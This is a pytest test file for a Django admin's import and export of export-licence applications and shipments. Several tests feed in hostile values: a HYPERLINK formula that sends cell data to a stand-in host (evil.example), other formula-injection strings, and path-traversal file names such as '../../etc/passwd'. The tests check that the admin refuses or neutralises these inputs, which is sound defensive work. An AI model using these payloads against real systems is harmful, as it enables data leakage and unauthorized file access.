"""Import and export in the admin, driven through the test client as an officer would.

Imports: upload, dry-run preview with per-row errors, confirm; rows are created by the
services (status history with the officer as actor); one failing row writes nothing.
Exports: the filtered changelist, within the user's organizations, formula-safe.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import tempfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.contrib import admin
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from licensing.models import (
    ApplicationLine,
    ApplicationStatus,
    LicenseApplication,
    Shipment,
    ShipmentLine,
    StatusChange,
)
from licensing.staff_groups import AUDITOR, COMPLIANCE_OFFICER
from tests.factories import (
    ControlledItemFactory,
    ExporterFactory,
    LicenseApplicationFactory,
    LicensingAuthorityFactory,
    application_in_status,
)

pytestmark = pytest.mark.django_db

CSV_FORMAT, XLSX_FORMAT = "0", "1"
APPLICATION_HEADERS = [
    "exporter_registration_number",
    "authority",
    "license_type",
    "end_user_name",
    "end_user_country",
    "end_use",
    "destination_country",
    "lines",
    "status",
    "submitted_at",
    "accepted_at",
    "review_started_at",
    "decided_at",
    "authority_reference",
    "license_number",
    "valid_from",
    "valid_until",
]


def _staff(django_user_model, username, group_name, *organizations):
    user = django_user_model.objects.create_user(
        username=username, password="unused-password", is_staff=True
    )
    user.groups.add(Group.objects.get(name=group_name))
    for organization in organizations:
        organization.members.add(user)
    return user


@pytest.fixture
def officer(django_user_model, organization):
    return _staff(django_user_model, "officer", COMPLIANCE_OFFICER, organization)


@pytest.fixture
def auditor(django_user_model, organization):
    return _staff(django_user_model, "auditor", AUDITOR, organization)


@pytest.fixture
def officer_client(client, officer):
    client.force_login(officer)
    return client


def _application_row(exporter, **overrides):
    row = {
        "exporter_registration_number": exporter.registration_number,
        "authority": "CN-MOFCOM",
        "license_type": "single",
        "end_user_name": "Rheinland Motoren GmbH",
        "end_user_country": "DE",
        "end_use": "Permanent-magnet motors.",
        "destination_country": "DE",
        "lines": "1C905 1000 kg",
    }
    row.update(overrides)
    return row


def _csv_file(rows, headers=None, *, name="rows.csv", encoding="utf-8"):
    headers = headers or list(rows[0])
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=headers, extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    return SimpleUploadedFile(name, buffer.getvalue().encode(encoding), content_type="text/csv")


def _xlsx_file(rows, headers=None, *, name="rows.xlsx"):
    headers = headers or list(rows[0])
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(headers)
    for row in rows:
        sheet.append([row.get(header) for header in headers])
    buffer = io.BytesIO()
    book.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def _upload(client, model, upload, *, file_format=CSV_FORMAT, **extra):
    return client.post(
        reverse(f"admin:licensing_{model}_import"),
        {"import_file": upload, "format": file_format, **extra},
    )


def _confirm(client, model, preview):
    confirm_form = preview.context["confirm_form"]
    return client.post(reverse(f"admin:licensing_{model}_process_import"), confirm_form.initial)


def _page(response) -> str:
    return response.content.decode()


def _counts():
    return (
        LicenseApplication.objects.count(),
        ApplicationLine.objects.count(),
        StatusChange.objects.count(),
        Shipment.objects.count(),
        ShipmentLine.objects.count(),
    )


# --- applications -------------------------------------------------------------------------


def test_csv_import_previews_then_creates_applications_through_the_workflow(
    officer_client, officer, exporter, dysprosium, terbium
):
    rows = [
        _application_row(exporter, lines="1C905 1000 kg 150000 usd; 1C904 2.5 t"),
        _application_row(
            exporter,
            status="accepted",
            submitted_at="2025-09-01",
            accepted_at="2025-09-03T10:00:00+08:00",
            authority_reference="MOFCOM-2025-0917",
        ),
        _application_row(
            exporter,
            status="approved",
            submitted_at="2025-06-02",
            accepted_at="2025-06-04",
            review_started_at="2025-06-05",
            decided_at="2025-08-01",
            authority_reference="MOFCOM-2025-0601",
            license_number="LIC-2025-0601",
            valid_from="2025-08-01",
            valid_until="2026-07-31",
        ),
    ]
    preview = _upload(officer_client, "licenseapplication", _csv_file(rows, APPLICATION_HEADERS))

    assert preview.status_code == 200
    page = _page(preview)
    assert "Confirm import" in page
    assert "Nothing has been written yet" in page
    assert "MOFCOM-2025-0917" in page and "LIC-2025-0601" in page
    assert LicenseApplication.objects.count() == 0, "the dry run wrote nothing"

    done = _confirm(officer_client, "licenseapplication", preview)

    assert done.status_code == 302
    assert LicenseApplication.objects.count() == 3
    draft = LicenseApplication.objects.get(status=ApplicationStatus.DRAFT)
    assert [(line.item.control_code, line.quantity, line.unit) for line in draft.lines.all()] == [
        ("1C905", Decimal("1000.000"), "kg"),
        ("1C904", Decimal("2.500"), "t"),
    ]
    assert draft.lines.first().value == Decimal("150000") and draft.lines.first().currency == "USD"
    accepted = LicenseApplication.objects.get(authority_reference="MOFCOM-2025-0917")
    assert accepted.status == ApplicationStatus.ACCEPTED
    assert accepted.accepted_at == dt.datetime(2025, 9, 3, 2, 0, tzinfo=dt.UTC)
    # A date without a time is read on the authority's calendar (Asia/Shanghai).
    assert timezone.localtime(accepted.submitted_at, dt.timezone(dt.timedelta(hours=8))).date() == (
        dt.date(2025, 9, 1)
    )
    approved = LicenseApplication.objects.get(license_number="LIC-2025-0601")
    assert approved.status == ApplicationStatus.APPROVED
    assert approved.valid_until == dt.date(2026, 7, 31)
    history = list(approved.status_changes.order_by("occurred_at"))
    assert [change.to_status for change in history] == [
        "submitted",
        "accepted",
        "under_review",
        "approved",
    ]
    assert {change.actor for change in history} == {officer}
    assert {change.actor_label for change in history} == {"user:officer"}
    assert all(application.organization == exporter.organization for application in [draft])


def test_xlsx_import_of_applications(officer_client, exporter, dysprosium):
    rows = [
        _application_row(exporter, lines="1C905 40 kg"),
        _application_row(
            exporter, status="submitted", submitted_at=dt.datetime(2025, 10, 9, 9, 30)
        ),
    ]
    preview = _upload(
        officer_client,
        "licenseapplication",
        _xlsx_file(rows, APPLICATION_HEADERS),
        file_format=XLSX_FORMAT,
    )
    assert "Confirm import" in _page(preview)

    assert _confirm(officer_client, "licenseapplication", preview).status_code == 302

    submitted = LicenseApplication.objects.get(status=ApplicationStatus.SUBMITTED)
    assert submitted.submitted_at == dt.datetime(2025, 10, 9, 1, 30, tzinfo=dt.UTC)
    assert LicenseApplication.objects.filter(status=ApplicationStatus.DRAFT).count() == 1


def test_one_failing_row_shows_per_row_errors_and_offers_no_confirmation(
    officer_client, exporter, dysprosium
):
    good = [_application_row(exporter) for _ in range(3)]
    bad = _application_row(exporter, lines="9Z999 10 kg", destination_country="XX")
    before = _counts()

    preview = _upload(
        officer_client, "licenseapplication", _csv_file([*good, bad], APPLICATION_HEADERS)
    )

    assert preview.status_code == 200
    page = _page(preview)
    assert "Confirm import" not in page
    assert preview.context.get("confirm_form") is None
    assert (
        "Row 4, lines: Line 1: no controlled item has the control code &#x27;9Z999&#x27;." in page
    )
    assert (
        "Row 4, destination_country: &#x27;XX&#x27; is not an ISO 3166 two-letter country code."
        in page
    )
    assert "Nothing will be imported until every row is valid" in page
    assert _counts() == before
    assert not _stored_upload_path(preview).exists(), "the refused upload is not kept"


def test_service_errors_are_reported_on_the_row_and_column(officer_client, exporter, dysprosium):
    us_item = ControlledItemFactory(
        control_code="3A001", authority=LicensingAuthorityFactory(code="US-BIS")
    )
    future = (timezone.now() + dt.timedelta(days=10)).date().isoformat()
    rows = [
        # Validity ends before it starts: refused by application_transition on approval.
        _application_row(
            exporter,
            status="approved",
            submitted_at="2025-06-02",
            accepted_at="2025-06-04",
            review_started_at="2025-06-05",
            decided_at="2025-08-01",
            authority_reference="MOFCOM-2025-0602",
            license_number="LIC-1",
            valid_from="2025-08-01",
            valid_until="2025-07-01",
        ),
        # An item of another authority: refused by application_create.
        _application_row(exporter, lines=f"{us_item.control_code} 5 kg"),
        # A submission dated in the future: refused by the transition.
        _application_row(exporter, status="submitted", submitted_at=future),
        # Accepted without the authority's reference.
        _application_row(
            exporter, status="accepted", submitted_at="2025-06-02", accepted_at="2025-06-03"
        ),
    ]

    preview = _upload(officer_client, "licenseapplication", _csv_file(rows, APPLICATION_HEADERS))

    assert preview.status_code == 200
    page = _page(preview)
    assert (
        "Row 1, valid_until: Moving to &#x27;approved&#x27;: valid_until cannot precede valid_from."
        in page
    )
    assert "Row 2, lines: Line 1: Item 3A001 is controlled by US-BIS, not by CN-MOFCOM." in page
    assert (
        "Row 3, submitted_at: Moving to &#x27;submitted&#x27;: occurred_at cannot be in the future."
        in page
    )
    assert "Row 4, authority_reference: Moving to &#x27;accepted&#x27;:" in page
    assert "Confirm import" not in page
    assert LicenseApplication.objects.count() == 0


def test_a_row_that_fails_at_confirmation_rolls_back_the_whole_import(
    officer_client, exporter, dysprosium
):
    rows = [_application_row(exporter) for _ in range(3)] + [
        _application_row(
            exporter,
            status="accepted",
            submitted_at="2025-09-01",
            accepted_at="2025-09-02",
            authority_reference="MOFCOM-2025-0999",
        )
    ]
    preview = _upload(officer_client, "licenseapplication", _csv_file(rows, APPLICATION_HEADERS))
    assert "Confirm import" in _page(preview)
    # Between the preview and the confirmation, someone records the same application.
    application_in_status(
        ApplicationStatus.ACCEPTED,
        organization=exporter.organization,
        exporter=exporter,
        approval={},
    )
    LicenseApplication.objects.update(authority_reference="MOFCOM-2025-0999")
    before = _counts()

    done = _confirm(officer_client, "licenseapplication", preview)

    assert done.status_code == 400
    page = _page(done)
    assert "Nothing was imported" in page
    assert "Row 4, authority_reference: An application with the reference MOFCOM-2025-0999" in page
    assert _counts() == before, "no application, line or status change of the 3 good rows remains"


def test_the_confirm_step_refuses_an_organization_the_user_does_not_belong_to(
    officer_client, exporter, dysprosium, other_organization
):
    preview = _upload(officer_client, "licenseapplication", _csv_file([_application_row(exporter)]))
    data = {**preview.context["confirm_form"].initial, "organization": other_organization.pk}

    response = officer_client.post(
        reverse("admin:licensing_licenseapplication_process_import"), data
    )

    assert response.status_code == 200
    assert "Select a valid choice" in _page(response)
    assert LicenseApplication.objects.count() == 0


def test_a_member_of_several_organizations_must_choose_one(
    client, django_user_model, organization, other_organization, exporter, dysprosium
):
    user = _staff(django_user_model, "both", COMPLIANCE_OFFICER, organization, other_organization)
    client.force_login(user)

    unchosen = _upload(client, "licenseapplication", _csv_file([_application_row(exporter)]))
    assert "Choose the organization the rows belong to." in _page(unchosen)

    # In the other organization the exporter does not exist: its registration number is unknown.
    elsewhere = _upload(
        client,
        "licenseapplication",
        _csv_file([_application_row(exporter)]),
        organization=other_organization.pk,
    )
    assert "Row 1, exporter_registration_number: No exporter of Kansai Precision Tools" in _page(
        elsewhere
    )

    chosen = _upload(
        client,
        "licenseapplication",
        _csv_file([_application_row(exporter)]),
        organization=organization.pk,
    )
    assert _confirm(client, "licenseapplication", chosen).status_code == 302
    assert LicenseApplication.objects.get().organization == organization


# --- hostile files ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("upload", "file_format", "message"),
    [
        (SimpleUploadedFile("empty.csv", b""), CSV_FORMAT, "The submitted file is empty."),
        (
            SimpleUploadedFile("headers.csv", b"exporter_registration_number,authority\n"),
            CSV_FORMAT,
            "No valid data to import",
        ),
        (
            SimpleUploadedFile("garbage.xlsx", bytes(range(256)) * 40),
            XLSX_FORMAT,
            "The file could not be read as the chosen format.",
        ),
        (
            SimpleUploadedFile("latin1.csv", "end_user_name\nMünchen Motoren\n".encode("latin-1")),
            CSV_FORMAT,
            "The file is not UTF-8 text.",
        ),
        (
            SimpleUploadedFile("binary.csv", bytes(range(256)) * 40),
            CSV_FORMAT,
            "The file is not UTF-8 text.",
        ),
        (
            SimpleUploadedFile("empty.xlsx", b"PK\x05\x06" + b"\x00" * 18),
            XLSX_FORMAT,
            "The file could not be read as the chosen format.",
        ),
    ],
)
def test_unreadable_files_are_refused_with_a_message(officer_client, upload, file_format, message):
    response = _upload(officer_client, "licenseapplication", upload, file_format=file_format)

    assert response.status_code == 200
    assert message in _page(response)
    assert "Confirm import" not in _page(response)


def test_wrong_headers_are_named(officer_client, exporter):
    upload = _csv_file(
        [{"exporter": "x", "authority": "CN-MOFCOM", "colour": "red"}],
        ["exporter", "authority", "colour"],
    )

    response = _upload(officer_client, "licenseapplication", upload)

    page = _page(response)
    assert response.status_code == 200
    assert "Unknown columns: exporter, colour." in page
    assert "Missing required columns: exporter_registration_number, license_type" in page
    assert "Traceback" not in page
    assert "Confirm import" not in page


def test_an_oversized_file_is_refused_before_it_is_read(officer_client, monkeypatch):
    monkeypatch.setattr("licensing.admin.imports.MAX_IMPORT_FILE_BYTES", 1000)
    upload = SimpleUploadedFile("big.csv", b"a,b\n" + b"1,2\n" * 1000)

    response = _upload(officer_client, "licenseapplication", upload)

    assert response.status_code == 200
    assert "at most 0 MB can be imported" in _page(response)


def test_too_many_rows_are_refused(officer_client, exporter, monkeypatch):
    monkeypatch.setattr("licensing.imports.MAX_IMPORT_ROWS", 2)
    upload = _csv_file([_application_row(exporter) for _ in range(3)])

    response = _upload(officer_client, "licenseapplication", upload)

    assert "At most 2 rows per file (this has 3)." in _page(response)


def test_formulas_are_refused_in_csv_and_xlsx(officer_client, exporter, dysprosium):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [_application_row(exporter, end_user_name=formula)]

    for upload, file_format in (
        (_csv_file(rows), CSV_FORMAT),
        (_xlsx_file(rows), XLSX_FORMAT),
    ):
        response = _upload(officer_client, "licenseapplication", upload, file_format=file_format)
        page = _page(response)
        assert response.status_code == 200
        assert "Row 1, end_user_name: Formulas are not imported; enter the value itself." in page
        assert "Confirm import" not in page
    assert LicenseApplication.objects.count() == 0


# --- shipments ----------------------------------------------------------------------------


@pytest.fixture
def approved_general_license(exporter, dysprosium):
    application = LicenseApplicationFactory(
        organization=exporter.organization,
        exporter=exporter,
        license_type="general",
        line__item=dysprosium,
        line__quantity=Decimal(1000),
    )
    from tests.factories import status_path, walk_application

    start = timezone.now() - dt.timedelta(days=60)
    walk_application(
        application,
        [
            (status, start + dt.timedelta(days=i))
            for i, status in enumerate(status_path("approved"))
        ],
    )
    application.refresh_from_db()
    return application


def _shipment_row(exporter, **overrides):
    row = {
        "external_reference": "PO-1",
        "exporter_registration_number": exporter.registration_number,
        "consignee_name": "Rheinland Motoren GmbH",
        "consignee_country": "DE",
        "destination_country": "DE",
        "required_ship_date": "2026-12-15",
        "lines": "1C905 400 kg",
        "license_application": "",
    }
    row.update(overrides)
    return row


def test_xlsx_import_of_shipments_checks_license_coverage(
    officer_client, exporter, approved_general_license
):
    license_number = approved_general_license.license_number
    rows = [
        _shipment_row(exporter, external_reference="PO-1", license_application=license_number),
        _shipment_row(exporter, external_reference="PO-2", license_application=license_number),
        _shipment_row(exporter, external_reference="PO-3", required_ship_date=dt.date(2027, 1, 4)),
    ]

    preview = _upload(officer_client, "shipment", _xlsx_file(rows), file_format=XLSX_FORMAT)
    assert "Confirm import" in _page(preview)
    assert _confirm(officer_client, "shipment", preview).status_code == 302

    shipments = {shipment.external_reference: shipment for shipment in Shipment.objects.all()}
    assert set(shipments) == {"PO-1", "PO-2", "PO-3"}
    assert shipments["PO-1"].license_application == approved_general_license
    assert shipments["PO-3"].required_ship_date == dt.date(2027, 1, 4)
    assert [str(line) for line in shipments["PO-2"].lines.all()] == ["1C905 400.000 kg"]


def test_shipment_rows_beyond_the_licensed_quantity_fail_and_nothing_is_written(
    officer_client, exporter, approved_general_license
):
    license_number = approved_general_license.license_number
    rows = [
        _shipment_row(exporter, external_reference=f"PO-{n}", license_application=license_number)
        for n in range(1, 4)  # 3 x 400 kg against a license for 1000 kg
    ] + [_shipment_row(exporter, external_reference="PO-1")]  # a duplicate reference

    preview = _upload(officer_client, "shipment", _csv_file(rows))

    page = _page(preview)
    assert "Row 3, lines: 1C905: 200 kg remaining on the license, 400 kg requested." in page
    assert "Row 4, external_reference: A shipment with this external reference exists." in page
    assert "Row 1," not in page and "Row 2," not in page
    assert "Confirm import" not in page
    assert Shipment.objects.count() == 0


def test_shipments_cannot_name_another_organizations_application(
    officer_client, exporter, other_organization, dysprosium
):
    foreign = application_in_status(
        ApplicationStatus.APPROVED, organization=other_organization, line__item=dysprosium
    )

    preview = _upload(
        officer_client,
        "shipment",
        _csv_file([_shipment_row(exporter, license_application=foreign.license_number)]),
    )

    assert "Row 1, license_application: No application of Rheinland Motoren GmbH" in _page(preview)


# --- permissions --------------------------------------------------------------------------


def test_the_auditor_may_export_but_not_import(client, auditor, exporter, dysprosium):
    client.force_login(auditor)

    changelist = client.get(reverse("admin:licensing_licenseapplication_changelist"))
    assert reverse("admin:licensing_licenseapplication_export") in _page(changelist)
    assert reverse("admin:licensing_licenseapplication_import") not in _page(changelist)
    assert client.get(reverse("admin:licensing_licenseapplication_import")).status_code == 403
    response = _upload(client, "licenseapplication", _csv_file([_application_row(exporter)]))
    assert response.status_code == 403
    assert LicenseApplication.objects.count() == 0

    export = _export(client, "licenseapplication", "")
    assert export.status_code == 200


def test_the_officer_sees_the_import_link(officer_client):
    changelist = officer_client.get(reverse("admin:licensing_licenseapplication_changelist"))
    assert reverse("admin:licensing_licenseapplication_import") in _page(changelist)
    form = officer_client.get(reverse("admin:licensing_licenseapplication_import"))
    assert form.status_code == 200
    assert "exporter_registration_number" in _page(form)


# --- exports ------------------------------------------------------------------------------


def _export(client, model, query_string, file_format=CSV_FORMAT):
    url = reverse(f"admin:licensing_{model}_export") + query_string
    form = client.get(url).context["form"]
    data = {"format": file_format, "resource": "0"}
    data.update(
        {
            name: "on"
            for name, field in form.fields.items()
            if name not in data and name != "export_items"
        }
    )
    return client.post(url, data)


def _csv_rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_export_follows_the_changelist_filter_and_the_users_organizations(
    officer_client, organization, other_organization, exporter, dysprosium
):
    accepted = application_in_status(
        ApplicationStatus.ACCEPTED,
        organization=organization,
        exporter=exporter,
        line__item=dysprosium,
    )
    LicenseApplicationFactory(organization=organization, exporter=exporter, line__item=dysprosium)
    application_in_status(
        ApplicationStatus.ACCEPTED, organization=other_organization, line__item=dysprosium
    )

    everything = _csv_rows(_export(officer_client, "licenseapplication", ""))
    filtered = _csv_rows(_export(officer_client, "licenseapplication", "?status__exact=accepted"))

    assert len(everything) == 2, "the other organization's application is not exported"
    assert len(filtered) == 1
    row = filtered[0]
    assert row["status"] == "accepted"
    assert row["authority_reference"] == accepted.authority_reference
    assert row["exporter"] == exporter.name
    assert row["exporter_registration_number"] == exporter.registration_number
    assert row["destination_country"] == "DE"
    assert row["lines"] == "1C905 1000 kg"
    assert row["organization"] == organization.name
    assert {
        "delay_level",
        "statutory_deadline",
        "expected_decision_p50",
        "expected_decision_p90",
    } <= set(row)
    assert row["statutory_deadline"] == str(
        LicenseApplication.objects.get(pk=accepted.pk).statutory_deadline
    )


def test_export_neutralises_formulas_in_csv_and_xlsx(
    officer_client, organization, exporter, dysprosium
):
    LicenseApplicationFactory(
        organization=organization,
        exporter=exporter,
        end_user_name='=HYPERLINK("http://evil.example","x")',
        line__item=dysprosium,
    )

    [row] = _csv_rows(_export(officer_client, "licenseapplication", ""))
    assert row["end_user_name"] == '\'=HYPERLINK("http://evil.example","x")'

    xlsx = _export(officer_client, "licenseapplication", "", file_format="1")
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    headers = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=headers.index("end_user_name") + 1)
    assert cell.data_type != "f"
    assert cell.value.startswith("'=")


def test_shipment_export_with_a_search(officer_client, exporter, approved_general_license):
    other_exporter = ExporterFactory(
        organization=exporter.organization, name="Baotou Steel Rare Earth"
    )
    from licensing.services.lines import LineInput
    from licensing.services.shipments import shipment_create
    from tests.factories import TEST_ACTOR

    for reference, shipper, application in (
        ("PO-7", exporter, approved_general_license),
        ("PO-8", other_exporter, None),
    ):
        shipment_create(
            organization=exporter.organization,
            actor=TEST_ACTOR,
            lines=[
                LineInput(
                    item=approved_general_license.lines.get().item, quantity=Decimal(10), unit="kg"
                )
            ],
            external_reference=reference,
            exporter=shipper,
            consignee_name="Rheinland Motoren GmbH",
            consignee_country="DE",
            destination_country="DE",
            required_ship_date=dt.date(2026, 12, 1),
            license_application=application,
        )

    rows = _csv_rows(_export(officer_client, "shipment", "?q=PO-7"))

    assert [row["external_reference"] for row in rows] == ["PO-7"]
    assert rows[0]["license_application"] == str(approved_general_license)
    assert rows[0]["application_status"] == "approved"
    assert rows[0]["lines"] == "1C905 10 kg"


def test_alert_export_follows_the_filter_and_the_users_organizations(
    client, auditor, organization, other_organization, exporter, dysprosium
):
    from licensing.models import DelayAlert

    mine = application_in_status(
        ApplicationStatus.UNDER_REVIEW,
        organization=organization,
        exporter=exporter,
        line__item=dysprosium,
    )
    theirs = application_in_status(
        ApplicationStatus.UNDER_REVIEW, organization=other_organization, line__item=dysprosium
    )
    for application, level, message in (
        (mine, "warning", "30 working days waited"),
        (mine, "critical", "@SUM(1+1) 40 working days waited"),
        (theirs, "critical", "Another organization's alert"),
    ):
        DelayAlert.objects.create(
            organization=application.organization,
            kind="delay_level",
            level=level,
            application=application,
            message=message,
            raised_at=timezone.now(),
        )
    client.force_login(auditor)

    rows = _csv_rows(_export(client, "delayalert", "?level__exact=critical"))

    assert [row["message"] for row in rows] == ["'@SUM(1+1) 40 working days waited"]
    assert rows[0]["application"] == str(mine)
    assert rows[0]["state"] == "open"
    assert rows[0]["organization"] == organization.name


def test_confirming_twice_or_with_a_tampered_file_name_writes_nothing_more(
    officer_client, exporter, dysprosium
):
    preview = _upload(officer_client, "licenseapplication", _csv_file([_application_row(exporter)]))
    url = reverse("admin:licensing_licenseapplication_process_import")
    initial = preview.context["confirm_form"].initial

    assert officer_client.post(url, initial).status_code == 302
    again = officer_client.post(url, initial, follow=True)
    tampered = officer_client.post(
        url, {**initial, "import_file_name": "../../etc/passwd"}, follow=True
    )
    bad_format = officer_client.post(url, {**initial, "format": "7"}, follow=True)

    for response in (again, bad_format):
        assert response.status_code == 200
        assert "The uploaded file is no longer available" in _page(response)
    assert "does not belong to a file you uploaded" in _page(tampered)
    assert LicenseApplication.objects.count() == 1


# --- the confirm step confirms only the user's own upload ---------------------------------


def _stored_upload_path(preview) -> Path:
    """Where the admin keeps the upload a preview is waiting to confirm."""
    model_admin = admin.site._registry[LicenseApplication]
    stored_name = preview.context["form"].cleaned_data["import_file"].tmp_storage_name
    storage = model_admin.get_tmp_storage_class()(name=stored_name)
    return Path(storage.get_full_path())


@pytest.fixture
def planted_csv(exporter):
    """A valid application CSV that someone else left in the temp directory."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=APPLICATION_HEADERS, extrasaction="ignore")
    writer.writeheader()
    writer.writerow(_application_row(exporter, end_user_name="Planted Row GmbH"))
    with tempfile.NamedTemporaryFile(
        "w", suffix=".csv", prefix="planted-", delete=False, encoding="utf-8"
    ) as planted:
        planted.write(buffer.getvalue())
    path = Path(planted.name)
    yield path
    path.unlink(missing_ok=True)


@pytest.mark.parametrize(
    "posted_name",
    [
        pytest.param(lambda planted: planted.name, id="a-file-name-in-the-temp-directory"),
        pytest.param(
            lambda planted: f"../{planted.parent.name}/{planted.name}", id="a-relative-path"
        ),
        pytest.param(lambda planted: str(planted), id="an-absolute-path"),
    ],
)
def test_the_confirm_step_refuses_a_file_name_it_did_not_issue(
    officer_client, exporter, dysprosium, planted_csv, posted_name
):
    preview = _upload(officer_client, "licenseapplication", _csv_file([_application_row(exporter)]))
    own_upload = _stored_upload_path(preview)
    data = {**preview.context["confirm_form"].initial, "import_file_name": posted_name(planted_csv)}

    response = officer_client.post(
        reverse("admin:licensing_licenseapplication_process_import"), data, follow=True
    )

    page = _page(response)
    assert "does not belong to a file you uploaded" in page
    assert "Nothing was imported" in page
    assert "Planted Row GmbH" not in page
    assert LicenseApplication.objects.count() == 0
    assert planted_csv.exists(), "a file the upload did not create is never deleted"
    assert own_upload.exists(), "the user's own pending upload is untouched too"


def test_the_confirm_step_refuses_another_users_pending_upload(
    client, django_user_model, organization, exporter, dysprosium
):
    owner = _staff(django_user_model, "uploader", COMPLIANCE_OFFICER, organization)
    colleague = _staff(django_user_model, "colleague", COMPLIANCE_OFFICER, organization)
    client.force_login(owner)
    preview = _upload(client, "licenseapplication", _csv_file([_application_row(exporter)]))
    owners_upload = _stored_upload_path(preview)
    owners_confirmation = preview.context["confirm_form"].initial
    url = reverse("admin:licensing_licenseapplication_process_import")

    client.force_login(colleague)
    response = client.post(url, owners_confirmation, follow=True)

    assert "does not belong to a file you uploaded" in _page(response)
    assert LicenseApplication.objects.count() == 0
    assert owners_upload.exists(), "the owner's upload is neither read into nor deleted"

    client.force_login(owner)
    assert client.post(url, owners_confirmation).status_code == 302
    assert LicenseApplication.objects.count() == 1


# --- look-alike characters ----------------------------------------------------------------


def test_export_neutralises_a_formula_that_starts_with_a_full_width_equals_sign(
    officer_client, organization, exporter, dysprosium
):
    formula = '\uff1dHYPERLINK("http://evil.example","x")'
    LicenseApplicationFactory(
        organization=organization, exporter=exporter, end_user_name=formula, line__item=dysprosium
    )

    [row] = _csv_rows(_export(officer_client, "licenseapplication", ""))

    assert row["end_user_name"] == "'" + formula


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        pytest.param(
            {"end_user_name": "\uff1dSUM(1+1)"},
            "Row 1, end_user_name: Formulas are not imported; enter the value itself.",
            id="full-width-equals-sign",
        ),
        pytest.param(
            {"status": "submitted", "submitted_at": "\uff12\uff10\uff12\uff15-06-02"},
            "Row 1, submitted_at: Use the digits 0-9",
            id="full-width-date",
        ),
        pytest.param(
            {"valid_from": "2025-08-0\u0661"},
            "Row 1, valid_from: Use the digits 0-9",
            id="arabic-indic-digit-in-a-date",
        ),
        pytest.param(
            {"lines": "1C905 \u0665 kg"},
            "Row 1, lines: Line 1: Use the digits 0-9",
            id="arabic-indic-quantity",
        ),
        pytest.param(
            {"lines": "1C905 10 kg 1\uff10\uff10 USD"},
            "Row 1, lines: Line 1: Use the digits 0-9",
            id="full-width-value",
        ),
    ],
)
def test_look_alike_characters_in_an_import_are_refused(
    officer_client, exporter, dysprosium, overrides, message
):
    rows = [_application_row(exporter, **overrides)]

    preview = _upload(officer_client, "licenseapplication", _csv_file(rows, APPLICATION_HEADERS))

    page = _page(preview)
    assert message in page
    assert "Confirm import" not in page
    assert LicenseApplication.objects.count() == 0


def test_an_import_finds_the_exporter_whatever_the_spelling_of_its_registration_number(
    officer_client, organization, dysprosium
):
    hamburg = ExporterFactory(
        organization=organization, country="DE", registration_number="HRB 12345"
    )
    rows = [_application_row(hamburg, exporter_registration_number="hrb\u00a012345\u200b")]

    preview = _upload(officer_client, "licenseapplication", _csv_file(rows))
    assert "Confirm import" in _page(preview), _page(preview)
    _confirm(officer_client, "licenseapplication", preview)

    assert LicenseApplication.objects.get().exporter == hamburg
